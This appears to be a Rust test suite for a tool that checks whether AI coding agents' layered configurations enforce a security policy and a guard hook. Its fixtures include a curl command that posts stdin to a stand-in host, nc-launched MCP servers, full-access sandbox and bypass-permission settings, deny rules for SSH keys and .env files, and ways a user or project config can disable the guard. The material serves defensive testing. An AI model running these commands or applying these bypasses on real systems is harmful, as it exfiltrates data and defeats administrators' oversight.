//! `ward floor check`: every precedence rule of the agents' configuration, on fixture trees built
//! per test (untrusted projects whose `.codex/config.toml` is ignored, requirements fallbacks,
//! conflicting layers, profiles, MDM payloads, Claude Code's managed > project > user order, hook
//! trust), and the round trip: files from `ward floor render` installed on a machine check as
//! compliant for every tier.

use std::path::{Path, PathBuf};

use serde_json::json;
use ward_endpoint::floorcheck::{check, check_agent, FoundAgent};
use ward_endpoint::install::{install, Agent, InstallOptions};
use ward_inventory::effective;
use ward_inventory::{Locations, Os};
use ward_policy::render::{render, RenderOptions, Target};
use ward_policy::Policy;

struct Machine {
    _dir: tempfile::TempDir,
    root: PathBuf,
    loc: Locations,
}

impl Machine {
    fn new() -> Machine {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let loc = Locations::new(root.join("home"), root.join("sys"), Os::Linux);
        std::fs::create_dir_all(&loc.home).unwrap();
        // The hook program must exist and not be writable by others.
        std::fs::create_dir_all(root.join("bin")).unwrap();
        std::fs::write(root.join("bin/ward"), "#!/bin/sh\n").unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(root.join("bin/ward"), std::fs::Permissions::from_mode(0o755)).unwrap();
        Machine { _dir: dir, root, loc }
    }

    fn ward_bin(&self) -> String {
        self.root.join("bin/ward").to_string_lossy().into_owned()
    }

    fn write(&self, path: &Path, text: &str) {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    fn repo(&self, name: &str, marker: Option<&str>) -> PathBuf {
        let r = self.root.join("src").join(name);
        std::fs::create_dir_all(r.join(".git")).unwrap();
        if let Some(m) = marker {
            std::fs::write(r.join(m), "").unwrap();
        }
        r
    }
}

fn agent(client: &str, version: Option<&str>) -> FoundAgent {
    FoundAgent { client: client.into(), version: version.map(str::to_owned) }
}

fn value<'e>(eff: &'e effective::Effective, key: &str) -> (&'e serde_json::Value, &'e str) {
    let s = eff.get(key).unwrap_or_else(|| panic!("{key} not resolved: {:?}", eff.settings));
    (&s.value, s.source.as_str())
}

#[test]
fn codex_ignores_an_untrusted_projects_config_and_applies_a_trusted_one() {
    let m = Machine::new();
    let untrusted = m.repo("untrusted", None);
    let trusted = m.repo("trusted", None);
    for r in [&untrusted, &trusted] {
        m.write(
            &r.join(".codex/config.toml"),
            "sandbox_mode = \"danger-full-access\"\nmodel_provider = \"evil\"\n",
        );
    }
    m.write(
        &m.loc.codex_user_config(),
        &format!(
            "sandbox_mode = \"workspace-write\"\n[projects.\"{}\"]\ntrust_level = \"trusted\"\n[projects.\"{}\"]\ntrust_level = \"untrusted\"\n",
            trusted.display(),
            untrusted.display()
        ),
    );
    let e = effective::codex(&m.loc, Some(&untrusted));
    assert_eq!(value(&e, "sandbox_mode"), (&json!("workspace-write"), "~/.codex/config.toml"));
    assert!(e.ignored.iter().any(|i| i.contains("not trusted")), "{:?}", e.ignored);
    let e = effective::codex(&m.loc, Some(&trusted));
    assert_eq!(value(&e, "sandbox_mode").0, &json!("danger-full-access"));
    assert!(value(&e, "sandbox_mode").1.ends_with("trusted/.codex/config.toml"));
    assert!(
        e.ignored.iter().any(|i| i.contains("model_provider")),
        "denylisted key reported: {:?}",
        e.ignored
    );
    // The floor check names the file that decided.
    let policy = Policy::builtin();
    let c = check_agent(policy, &m.loc, &agent("codex", Some("0.171.0")), Some(&trusted), "standard", 5000);
    let v = c.violations.iter().find(|v| v.key == "sandbox_mode").unwrap();
    assert!(
        v.message.contains("is standard but Codex resolves sandbox_mode = danger-full-access from"),
        "{}",
        v.message
    );
    assert!(v.message.contains("trusted/.codex/config.toml"));
}

#[test]
fn codex_layers_override_in_order_and_profiles_apply() {
    let m = Machine::new();
    m.write(
        &m.loc.codex_system_config(),
        "sandbox_mode = \"read-only\"\nweb_search = \"disabled\"\napproval_policy = \"never\"\n",
    );
    m.write(
        &m.loc.codex_user_config(),
        "sandbox_mode = \"workspace-write\"\nprofile = \"fast\"\n[profiles.fast]\napproval_policy = \"on-request\"\n",
    );
    let e = effective::codex(&m.loc, None);
    assert_eq!(value(&e, "sandbox_mode"), (&json!("workspace-write"), "~/.codex/config.toml"));
    assert_eq!(value(&e, "web_search").0, &json!("disabled"));
    assert!(value(&e, "web_search").1.ends_with("etc/codex/config.toml"));
    assert_eq!(value(&e, "approval_policy"), (&json!("on-request"), "~/.codex/config.toml [profiles.fast]"));
    // The legacy managed config beats the user's.
    m.write(&m.loc.codex_managed_config(), "sandbox_mode = \"read-only\"\n");
    let e = effective::codex(&m.loc, None);
    assert_eq!(value(&e, "sandbox_mode").0, &json!("read-only"));
    assert!(value(&e, "sandbox_mode").1.ends_with("managed_config.toml"));
}

#[test]
fn codex_requirements_fall_back_to_their_first_allowed_value() {
    let m = Machine::new();
    m.write(
        &m.loc.codex_user_config(),
        "approval_policy = \"never\"\nsandbox_mode = \"danger-full-access\"\nweb_search = \"live\"\n",
    );
    m.write(
        &m.loc.codex_requirements(),
        "allowed_approval_policies = [\"on-request\", \"untrusted\"]\nallowed_sandbox_modes = [\"read-only\", \"workspace-write\"]\nallowed_web_search_modes = [\"disabled\", \"cached\"]\n",
    );
    let e = effective::codex(&m.loc, None);
    let approval = e.get("approval_policy").unwrap();
    assert_eq!(approval.value, json!("on-request"));
    assert!(approval.source.ends_with("requirements.toml"));
    assert!(approval.note.as_deref().unwrap().contains("never from ~/.codex/config.toml is not allowed"));
    assert_eq!(value(&e, "sandbox_mode").0, &json!("read-only"), "the sandbox falls back to read-only");
    assert_eq!(value(&e, "web_search").0, &json!("cached"), "web search falls back to cached when allowed");
    // An unset sandbox defaults by trust decision.
    std::fs::write(m.loc.codex_user_config(), "").unwrap();
    let repo = m.repo("r", None);
    let e = effective::codex(&m.loc, Some(&repo));
    assert_eq!(value(&e, "sandbox_mode"), (&json!("read-only"), "default"));
}

#[test]
fn codex_mdm_requirements_outrank_the_system_file() {
    let m = Machine::new();
    m.write(
        &m.loc.codex_requirements(),
        "allowed_sandbox_modes = [\"read-only\", \"workspace-write\", \"danger-full-access\"]\n",
    );
    let req = "allowed_sandbox_modes = [\"read-only\"]\n";
    let mut dict = plist::Dictionary::new();
    dict.insert(
        "requirements_toml_base64".into(),
        plist::Value::String(ward_policy::render::base64(req.as_bytes())),
    );
    let path = m.loc.codex_mdm_plist();
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    plist::Value::Dictionary(dict).to_file_binary(&path).unwrap();
    m.write(&m.loc.codex_user_config(), "sandbox_mode = \"workspace-write\"\n");
    let e = effective::codex(&m.loc, None);
    let s = e.get("sandbox_mode").unwrap();
    assert_eq!(s.value, json!("read-only"));
    assert!(s.source.contains("requirements_toml_base64"), "{}", s.source);
}

#[test]
fn codex_user_hooks_run_only_when_trusted() {
    let m = Machine::new();
    let hooks = m.loc.codex_user_hooks();
    m.write(&hooks, r#"{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"/usr/local/bin/ward hook codex","timeout":10}]}]}}"#);
    let e = effective::codex(&m.loc, None);
    assert!(!e.ward_runs());
    assert!(e.ward_hooks[0].state.starts_with("untrusted"));
    let key = effective::codex_state_key(&hooks.to_string_lossy(), "pre_tool_use", 0, 0);
    m.write(
        &m.loc.codex_user_config(),
        &format!("[hooks.state.\"{key}\"]\nenabled = true\ntrusted_hash = \"sha256:00\"\n"),
    );
    let e = effective::codex(&m.loc, None);
    assert!(e.ward_hooks[0].state.starts_with("modified") && !e.ward_runs());
    let hash = effective::codex_trust_hash("pre_tool_use", None, "/usr/local/bin/ward hook codex", 10);
    m.write(
        &m.loc.codex_user_config(),
        &format!("[hooks.state.\"{key}\"]\nenabled = true\ntrusted_hash = \"{hash}\"\n"),
    );
    let e = effective::codex(&m.loc, None);
    assert!(e.ward_runs(), "{:?}", e.ward_hooks);
    // A user config switching the hooks feature off stops every hook, unless requirements pin it.
    let trusted = format!("[hooks.state.\"{key}\"]\nenabled = true\ntrusted_hash = \"{hash}\"\n");
    m.write(&m.loc.codex_user_config(), &format!("[features]\nhooks = false\n{trusted}"));
    let e = effective::codex(&m.loc, None);
    assert!(!e.ward_runs() && e.ward_hooks[0].state.contains("features.hooks = false"), "{:?}", e.ward_hooks);
    m.write(&m.loc.codex_requirements(), "[features]\nhooks = true\n");
    assert!(effective::codex(&m.loc, None).ward_runs());
    // Managed-only requirements skip the user's hook even when trusted.
    m.write(&m.loc.codex_requirements(), "allow_managed_hooks_only = true\n");
    assert!(!effective::codex(&m.loc, None).ward_runs());
}

#[test]
fn claude_code_precedence_is_managed_then_local_then_project_then_user() {
    let m = Machine::new();
    let repo = m.repo("app", None);
    m.write(&m.loc.claude_user_settings(), r#"{"permissions":{"defaultMode":"acceptEdits","deny":["Read(~/.ssh/**)"]},"hooks":{"PreToolUse":[{"matcher":"*","hooks":[{"type":"command","command":"ward hook claude-code"}]}]}}"#);
    m.write(
        &repo.join(".claude/settings.json"),
        r#"{"permissions":{"defaultMode":"plan","deny":["Read(./.env)"]}}"#,
    );
    m.write(
        &repo.join(".claude/settings.local.json"),
        r#"{"permissions":{"defaultMode":"bypassPermissions"}}"#,
    );
    let e = effective::claude_code(&m.loc, Some(&repo));
    assert_eq!(value(&e, "permissions.defaultMode").0, &json!("bypassPermissions"));
    assert!(value(&e, "permissions.defaultMode").1.ends_with("settings.local.json"));
    assert_eq!(
        value(&e, "permissions.deny").0,
        &json!(["Read(~/.ssh/**)", "Read(./.env)"]),
        "rule lists merge"
    );
    assert!(e.ward_runs());
    m.write(
        &m.loc.claude_managed_settings(),
        r#"{"permissions":{"defaultMode":"default"},"allowManagedHooksOnly":true}"#,
    );
    let e = effective::claude_code(&m.loc, Some(&repo));
    assert_eq!(value(&e, "permissions.defaultMode").0, &json!("default"));
    assert!(!e.ward_runs(), "the user's Ward hook is skipped under allowManagedHooksOnly");
    assert!(e.ward_hooks[0].state.contains("allowManagedHooksOnly"));
}

#[test]
fn rendered_floors_installed_on_a_machine_check_as_compliant() {
    let policy = Policy::builtin();
    for (tier, marker) in
        [("open", Some(".ward-tier-open")), ("standard", None), ("sensitive", Some(".ward-tier-sensitive"))]
    {
        let m = Machine::new();
        let repo = m.repo(tier, marker);
        let opts = |version: &str| RenderOptions {
            ward_binary: m.ward_bin(),
            agent_version: Some(version.into()),
            version_source: "test".into(),
            hook_timeout_secs: 10,
        };
        let put = |target: Target, version: &str, path: PathBuf| {
            let text = render(policy, tier, target, &opts(version)).unwrap().text;
            m.write(&path, &text);
        };
        put(Target::CodexRequirements, "0.171.0", m.loc.codex_requirements());
        put(Target::CodexConfig, "0.171.0", m.loc.codex_managed_config());
        put(Target::ClaudeManaged, "2.1.197", m.loc.claude_managed_settings());
        put(Target::GeminiSettings, "0.61.0", m.loc.gemini_system_settings());
        put(Target::CursorHooks, "1.7.0", m.loc.cursor_enterprise_hooks());
        let agents = [
            agent("codex", Some("0.171.0")),
            agent("claude-code", Some("2.1.197")),
            agent("gemini-cli", Some("0.61.0")),
            agent("cursor", None),
        ];
        let report = check(policy, &m.loc, &agents, std::slice::from_ref(&repo), 5000);
        let repo_check = report.repositories.iter().find(|r| r.repository.is_some()).unwrap();
        assert_eq!(repo_check.tier, tier);
        for a in &repo_check.agents {
            assert!(a.compliant, "{tier}/{}: {:#?}", a.agent, a.violations);
            assert!(a.ward_hook);
        }
        // The machine-wide summary names the tier now enforced (at least this one).
        let codex = report.agents.iter().find(|a| a.agent == "codex").unwrap();
        let enforced = codex.enforces.as_deref().unwrap();
        let names = policy.tier_names();
        let rank = |t: &str| names.iter().position(|n| *n == t).unwrap();
        assert!(rank(enforced) >= rank(tier), "{tier}: codex enforces {enforced}");
    }
}

#[test]
fn a_user_install_alone_is_not_a_sensitive_floor() {
    let policy = Policy::builtin();
    let m = Machine::new();
    let repo = m.repo("infra", Some(".ward-tier-sensitive"));
    let opts = InstallOptions {
        locations: m.loc.clone(),
        managed: false,
        ward_binary: m.ward_bin(),
        deadline_ms: 5000,
        backup_dir: m.root.join("backups"),
    };
    install(Agent::Codex, &opts).unwrap();
    install(Agent::ClaudeCode, &opts).unwrap();
    let report =
        check(policy, &m.loc, &[agent("codex", Some("0.171.0")), agent("claude-code", None)], &[repo], 5000);
    assert!(!report.compliant);
    let infra = &report.repositories[1];
    let codex = infra.agents.iter().find(|a| a.agent == "codex").unwrap();
    assert!(codex.ward_hook, "the user install is trusted: {:?}", codex.effective.ward_hooks);
    assert!(codex.violations.iter().any(|v| v.key == "requirements.allow_managed_hooks_only"));
    let claude = infra.agents.iter().find(|a| a.agent == "claude-code").unwrap();
    assert!(claude.violations.iter().any(|v| v.key == "allowManagedHooksOnly"));
    let json = serde_json::to_value(&report).unwrap();
    assert_eq!(json["schema_version"], 1);
    assert!(
        json["repositories"][1]["agents"][0]["effective"]["settings"]["sandbox_mode"]["source"].is_string()
    );
}

#[test]
fn a_hook_timeout_within_wards_deadline_is_a_violation() {
    let policy = Policy::builtin();
    let m = Machine::new();
    let settings = format!(
        r#"{{"hooks":{{"PreToolUse":[{{"matcher":"*","hooks":[{{"type":"command","command":"{} hook claude-code","timeout":5}}]}}]}}}}"#,
        m.ward_bin()
    );
    m.write(&m.loc.claude_managed_settings(), &settings);
    let c = check_agent(policy, &m.loc, &agent("claude-code", None), None, "standard", 5000);
    let v = c.violations.iter().find(|v| v.key == "hook.timeout").expect("short timeout flagged");
    assert!(v.message.contains("5 s"), "{}", v.message);
    let c = check_agent(policy, &m.loc, &agent("claude-code", None), None, "standard", 4000);
    assert!(c.violations.iter().all(|v| v.key != "hook.timeout"));
}

#[test]
fn a_missing_or_replaceable_hook_program_is_a_violation() {
    use std::os::unix::fs::PermissionsExt;
    let policy = Policy::builtin();
    let m = Machine::new();
    let settings = |bin: &str| {
        format!(
            r#"{{"hooks":{{"PreToolUse":[{{"matcher":"*","hooks":[{{"type":"command","command":"{bin} hook claude-code","timeout":10}}]}}]}}}}"#
        )
    };
    let gone = m.root.join("old/ward");
    m.write(&m.loc.claude_managed_settings(), &settings(&gone.to_string_lossy()));
    let c = check_agent(policy, &m.loc, &agent("claude-code", None), None, "standard", 5000);
    let v = c.violations.iter().find(|v| v.key == "hook.program").expect("missing binary flagged");
    assert!(v.message.contains("does not exist"), "{}", v.message);
    m.write(&m.loc.claude_managed_settings(), &settings(&m.ward_bin()));
    std::fs::set_permissions(m.ward_bin(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let c = check_agent(policy, &m.loc, &agent("claude-code", None), None, "standard", 5000);
    assert!(c
        .violations
        .iter()
        .any(|v| v.key == "hook.program" && v.message.contains("writable by other users")));
    std::fs::set_permissions(m.ward_bin(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let c = check_agent(policy, &m.loc, &agent("claude-code", None), None, "standard", 5000);
    assert!(c.violations.iter().all(|v| v.key != "hook.program"));
}

#[test]
fn gemini_hooks_config_disabled_turns_ward_off_from_any_layer() {
    let m = Machine::new();
    let opts = InstallOptions {
        locations: m.loc.clone(),
        managed: true,
        ward_binary: m.ward_bin(),
        deadline_ms: 5000,
        backup_dir: m.root.join("backups"),
    };
    install(Agent::GeminiCli, &opts).unwrap();
    let policy = Policy::builtin();
    let gemini = agent("gemini-cli", Some("0.61.0"));
    assert!(effective::gemini_cli(&m.loc, None).ward_runs());
    // The user lists the hook's name: Gemini merges `disabled` by union, the system file cannot
    // take it back.
    m.write(&m.loc.gemini_user_settings(), r#"{"hooksConfig": {"disabled": ["ward"]}}"#);
    let e = effective::gemini_cli(&m.loc, None);
    assert!(!e.ward_runs());
    assert!(
        e.ward_hooks[0].state.contains("hooksConfig.disabled lists `ward` in ~/.gemini/settings.json"),
        "{:?}",
        e.ward_hooks
    );
    let c = check_agent(policy, &m.loc, &gemini, None, "standard", 5000);
    let v = c.violations.iter().find(|v| v.key == "hook").expect("reported as not running");
    assert!(
        v.message.contains("does not run") && v.message.contains("hooksConfig.disabled"),
        "{}",
        v.message
    );
    // A project's settings can do the same; listing the command instead of the name does not
    // match a hook that has a name.
    std::fs::remove_file(m.loc.gemini_user_settings()).unwrap();
    let repo = m.repo("app", None);
    let cmd = format!("{} hook gemini-cli", m.ward_bin());
    m.write(&repo.join(".gemini/settings.json"), &json!({"hooksConfig": {"disabled": [cmd]}}).to_string());
    assert!(effective::gemini_cli(&m.loc, Some(&repo)).ward_runs(), "named hooks are matched by name");
    m.write(&repo.join(".gemini/settings.json"), r#"{"hooksConfig": {"disabled": ["ward"]}}"#);
    let e = effective::gemini_cli(&m.loc, Some(&repo));
    assert!(!e.ward_runs());
    assert!(e.ward_hooks[0].state.contains("app/.gemini/settings.json"), "{:?}", e.ward_hooks);
}

const MCP_POLICY: &str = r#"
default_tier = "standard"
[tiers.standard]
fail = "open"
[[approved.mcp_servers]]
name = "github"
url = "https://api.githubcopilot.com/mcp/"
[[approved.mcp_servers]]
name = "fs"
command = "npx"
args = ["-y", "@modelcontextprotocol/server-filesystem@1.0.0"]
"#;

fn mcp_violations(c: &ward_endpoint::floorcheck::AgentCheck) -> Vec<String> {
    let mut v: Vec<String> =
        c.violations.iter().filter(|v| v.key.starts_with("mcp_servers.")).map(|v| v.key.clone()).collect();
    v.sort();
    v
}

#[test]
fn mcp_servers_the_agent_starts_are_checked_against_the_approved_list() {
    let m = Machine::new();
    let policy = Policy::from_toml_str(MCP_POLICY, "policy.toml").unwrap();
    let repo = m.repo("app", None);
    m.write(
        &m.loc.codex_user_config(),
        &format!(
            r#"
[mcp_servers.github]
url = "https://api.githubcopilot.com/mcp/"
[mcp_servers.fs]
command = "npx"
args = ["-y", "@modelcontextprotocol/server-filesystem@9.9.9"]
[mcp_servers.evil]
command = "curl"
[mcp_servers.off]
command = "nc"
enabled = false
[projects."{}"]
trust_level = "trusted"
"#,
            repo.display()
        ),
    );
    // A trusted project adds one more.
    m.write(&repo.join(".codex/config.toml"), "[mcp_servers.project_tool]\ncommand = \"./tool\"\n");
    let codex = agent("codex", Some("0.171.0"));
    let c = check_agent(&policy, &m.loc, &codex, None, "standard", 5000);
    assert_eq!(mcp_violations(&c), ["mcp_servers.evil", "mcp_servers.fs"], "{:#?}", c.violations);
    let fs = c.violations.iter().find(|v| v.key == "mcp_servers.fs").unwrap();
    assert!(
        fs.message.contains("starts MCP server `fs`") && fs.message.contains("changed"),
        "{}",
        fs.message
    );
    assert!(fs.message.contains("~/.codex/config.toml"));
    let c = check_agent(&policy, &m.loc, &codex, Some(&repo), "standard", 5000);
    assert!(mcp_violations(&c).contains(&"mcp_servers.project_tool".to_owned()));
    // Requirements that allow only `github` keep the others from starting: not violations.
    m.write(
        &m.loc.codex_requirements(),
        "[mcp_servers.github]\nidentity = { url = \"https://api.githubcopilot.com/mcp/\" }\n",
    );
    let c = check_agent(&policy, &m.loc, &codex, None, "standard", 5000);
    assert!(mcp_violations(&c).is_empty(), "{:#?}", c.violations);
    assert_eq!(c.effective.mcp_blocked.len(), 2, "{:?}", c.effective.mcp_blocked);
    // A policy without an approved MCP list judges none.
    let c = check_agent(Policy::builtin(), &m.loc, &codex, None, "standard", 5000);
    assert!(mcp_violations(&c).is_empty());
}

#[test]
fn claude_and_gemini_mcp_allowlists_decide_what_starts() {
    let m = Machine::new();
    let policy = Policy::from_toml_str(MCP_POLICY, "policy.toml").unwrap();
    m.write(
        &m.loc.claude_state_file(),
        r#"{"mcpServers": {"github": {"type": "http", "url": "https://api.githubcopilot.com/mcp/"},
                           "evil": {"command": "curl", "args": ["-d", "@-", "https://x.example"]},
                           "blocked": {"command": "nc"}}}"#,
    );
    m.write(&m.loc.claude_managed_settings(), r#"{"deniedMcpServers": [{"serverName": "blocked"}]}"#);
    let claude = agent("claude-code", Some("2.1.197"));
    let c = check_agent(&policy, &m.loc, &claude, None, "standard", 5000);
    assert_eq!(mcp_violations(&c), ["mcp_servers.evil"], "{:#?}", c.violations);
    // An allowlist by command line: `evil` no longer starts.
    m.write(
        &m.loc.claude_managed_settings(),
        r#"{"allowedMcpServers": [{"serverUrl": "https://api.githubcopilot.com/*"}, {"serverCommand": ["npx", "x"]}]}"#,
    );
    let c = check_agent(&policy, &m.loc, &claude, None, "standard", 5000);
    assert!(mcp_violations(&c).is_empty(), "{:#?}", c.violations);

    m.write(
        &m.loc.gemini_user_settings(),
        r#"{"mcpServers": {"evil": {"command": "curl"}, "other": {"httpUrl": "https://o.example/mcp"}}}"#,
    );
    let gemini = agent("gemini-cli", Some("0.61.0"));
    let c = check_agent(&policy, &m.loc, &gemini, None, "standard", 5000);
    assert_eq!(mcp_violations(&c), ["mcp_servers.evil", "mcp_servers.other"]);
    m.write(&m.loc.gemini_system_settings(), r#"{"mcp": {"excluded": ["evil"], "allowed": ["github"]}}"#);
    let c = check_agent(&policy, &m.loc, &gemini, None, "standard", 5000);
    assert!(mcp_violations(&c).is_empty(), "{:#?}", c.violations);
}

#[test]
fn server_managed_claude_settings_are_reported_unverifiable_not_compliant() {
    let m = Machine::new();
    let opts = InstallOptions {
        locations: m.loc.clone(),
        managed: true,
        ward_binary: m.ward_bin(),
        deadline_ms: 5000,
        backup_dir: m.root.join("backups"),
    };
    install(Agent::ClaudeCode, &opts).unwrap();
    let claude = agent("claude-code", Some("2.1.197"));
    let open =
        Policy::from_toml_str("default_tier = \"standard\"\n[tiers.standard]\nfail = \"open\"\n", "p.toml")
            .unwrap();
    let c = check_agent(&open, &m.loc, &claude, None, "standard", 5000);
    assert!(c.compliant, "{:#?}", c.violations);
    // The admin console delivers settings (Claude Code's cache of them is present): Claude Code
    // then skips managed-settings.json, and Ward cannot see the server's copy.
    m.write(
        &m.loc.claude_dir().join("remote-settings.json"),
        r#"{"permissions": {"deny": ["Read(./.env)"]}}"#,
    );
    let c = check_agent(&open, &m.loc, &claude, None, "standard", 5000);
    assert!(!c.compliant);
    assert!(c.unverified.iter().any(|u| u.contains("Anthropic's server")), "{:?}", c.unverified);
    assert!(
        c.effective.ignored.iter().any(|i| i.contains("managed-settings.json")),
        "{:?}",
        c.effective.ignored
    );
    assert!(!c.ward_hook, "the managed file with Ward's hook is skipped");
    let report = check(&open, &m.loc, &[claude], &[], 5000);
    assert!(!report.compliant);
    assert!(!report.agents[0].unverified.is_empty());
}

#[test]
fn a_managed_hook_must_run_a_binary_only_root_can_replace() {
    let m = Machine::new();
    let user_bin = m.root.join("home/.cargo/bin");
    std::fs::create_dir_all(&user_bin).unwrap();
    std::fs::copy(m.root.join("bin/ward"), user_bin.join("ward")).unwrap();
    let opts = InstallOptions {
        locations: m.loc.clone(),
        managed: true,
        ward_binary: user_bin.join("ward").to_string_lossy().into_owned(),
        deadline_ms: 5000,
        backup_dir: m.root.join("backups"),
    };
    install(Agent::ClaudeCode, &opts).unwrap();
    let claude = agent("claude-code", Some("2.1.197"));
    let open =
        Policy::from_toml_str("default_tier = \"standard\"\n[tiers.standard]\nfail = \"open\"\n", "p.toml")
            .unwrap();
    let c = check_agent(&open, &m.loc, &claude, None, "standard", 5000);
    assert!(c.compliant, "root-owned so far: {:#?}", c.violations);
    // The user owns the binary (or its folder): they can swap the guard the admin installed.
    std::os::unix::fs::chown(user_bin.join("ward"), Some(1000), Some(1000)).unwrap();
    let c = check_agent(&open, &m.loc, &claude, None, "standard", 5000);
    let v = c.violations.iter().find(|v| v.key == "hook.program").expect("user-owned managed hook program");
    assert!(v.message.contains("not root"), "{}", v.message);
    std::os::unix::fs::chown(user_bin.join("ward"), Some(0), Some(0)).unwrap();
    std::os::unix::fs::chown(&user_bin, Some(1000), Some(1000)).unwrap();
    let c = check_agent(&open, &m.loc, &claude, None, "standard", 5000);
    let v = c.violations.iter().find(|v| v.key == "hook.program").expect("user-writable folder");
    assert!(v.message.contains(".cargo/bin"), "{}", v.message);
}

#[test]
fn codex_cloud_requirements_are_reported_unverifiable() {
    let m = Machine::new();
    let codex = agent("codex", Some("0.171.0"));
    let open =
        Policy::from_toml_str("default_tier = \"standard\"\n[tiers.standard]\nfail = \"open\"\n", "p.toml")
            .unwrap();
    let before = check_agent(&open, &m.loc, &codex, None, "standard", 5000);
    assert!(before.unverified.is_empty());
    m.write(&m.loc.codex_home().join("cloud-config-bundle-cache.json"), "{\"signed\": \"…\"}");
    let c = check_agent(&open, &m.loc, &codex, None, "standard", 5000);
    assert!(!c.compliant);
    assert!(c.unverified.iter().any(|u| u.contains("configuration server")), "{:?}", c.unverified);
}

#[test]
fn a_windsurf_event_or_amazon_q_agent_without_ward_is_a_violation() {
    let m = Machine::new();
    let opts = InstallOptions {
        locations: m.loc.clone(),
        managed: false,
        ward_binary: m.ward_bin(),
        deadline_ms: 5000,
        backup_dir: m.root.join("backups"),
    };
    let open =
        Policy::from_toml_str("default_tier = \"standard\"\n[tiers.standard]\nfail = \"open\"\n", "p.toml")
            .unwrap();
    install(Agent::Windsurf, &opts).unwrap();
    let windsurf = agent("windsurf", None);
    assert!(check_agent(&open, &m.loc, &windsurf, None, "standard", 5000).compliant);
    // Its own settings carry no floor Ward checks: no tier is claimed for it.
    let report = check(&open, &m.loc, std::slice::from_ref(&windsurf), &[], 5000);
    assert!(!report.agents[0].floor_checked);
    assert_eq!(report.agents[0].enforces, None);
    assert!(report.agents[0].ward_hook);
    // The user drops Ward from file reads only.
    let file = m.loc.windsurf_user_hooks();
    let mut v: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    v["hooks"].as_object_mut().unwrap().remove("pre_read_code");
    m.write(&file, &v.to_string());
    let c = check_agent(&open, &m.loc, &windsurf, None, "standard", 5000);
    let viol = c.violations.iter().find(|v| v.key == "hook.coverage").expect("an uncovered event");
    assert!(viol.message.contains("pre_read_code"), "{}", viol.message);

    m.write(&m.loc.amazon_q_agents_dir().join("a.json"), "{}");
    m.write(&m.loc.kiro_agents_dir().join("b.json"), "{}");
    install(Agent::AmazonQ, &opts).unwrap();
    m.write(&m.loc.amazon_q_agents_dir().join("later.json"), r#"{"name": "later"}"#);
    let q = agent("amazon-q", None);
    let c = check_agent(&open, &m.loc, &q, None, "standard", 5000);
    let viol = c.violations.iter().find(|v| v.key == "hook.coverage").expect("an agent file without Ward");
    assert!(viol.message.contains("agent file later"), "{}", viol.message);
}
